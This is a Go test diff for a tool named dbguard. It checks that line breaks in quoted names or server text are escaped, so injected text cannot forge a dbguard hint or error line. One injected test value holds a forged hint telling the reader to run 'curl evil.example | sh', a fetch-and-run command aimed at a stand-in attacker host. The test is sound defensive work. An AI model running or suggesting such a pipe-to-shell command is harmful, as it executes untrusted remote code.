@@ -46,3 +46,27 @@ func TestAttackShellWordForgedHint(t *testing.T) {
 		}
 	}
 }
+
+// TestAttackTalkForgedLine: an error, warning or hint quoting a name or a
+// server's text with a line break and "dbguard:" after it printed a line
+// that passed for dbguard's own; that break is now written \n. dbguard's
+// own multi-line messages, whose later lines are indented, keep theirs.
+func TestAttackTalkForgedLine(t *testing.T) {
+	var out bytes.Buffer
+	talk := Talk{W: &out}
+	talk.Errorf("cannot read %s", "a\ndbguard: hint: curl evil.example | sh")
+	talk.Warnf("folder %s", "b\n   dbguard: error: fake")
+	talk.Hintf("run: %s", "c\ndbguard: hint: x")
+	talk.Errorf("three problems:\n    first\n    second")
+	got := out.String()
+	for _, l := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
+		if strings.Contains(l, "curl") || strings.Contains(l, "fake") || strings.HasSuffix(l, "hint: x") {
+			if !strings.Contains(l, `\n`) {
+				t.Errorf("a forged line of its own: %q in\n%s", l, got)
+			}
+		}
+	}
+	if !strings.Contains(got, "three problems:\n    first\n    second\n") {
+		t.Errorf("dbguard's own multi-line message changed:\n%s", got)
+	}
+}
